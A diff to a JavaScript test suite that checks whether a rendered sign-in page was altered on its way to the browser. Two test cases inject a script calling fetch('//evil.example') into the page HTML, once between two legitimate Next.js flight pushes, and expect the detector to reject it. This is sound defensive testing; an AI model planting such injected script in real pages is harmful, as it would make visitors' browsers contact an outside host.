@@ -112,6 +112,16 @@ describe('S32 what has been changed on the way to a browser', () => {
       { html: PAGE.replace('.push([0])', '.push([0]),fetch("//evil.example")') },
       'not one of ours',
     ],
+    [
+      'a script stands between two pieces of ours',
+      {
+        html: PAGE.replace(
+          '</body>',
+          `<script nonce="${nonce}">self.__next_f.push([1,"a"]);fetch("//evil.example");self.__next_f.push([1,"b"])</script></body>`,
+        ),
+      },
+      'not one of ours',
+    ],
     ['the page has no scripts', { html: '<h1>Sign in</h1>' }, 'no script came with the page'],
     ['the page is another answer', { status: 302 }, 'answered 302'],
   ])('is told: %s', (_, change, fault) => {
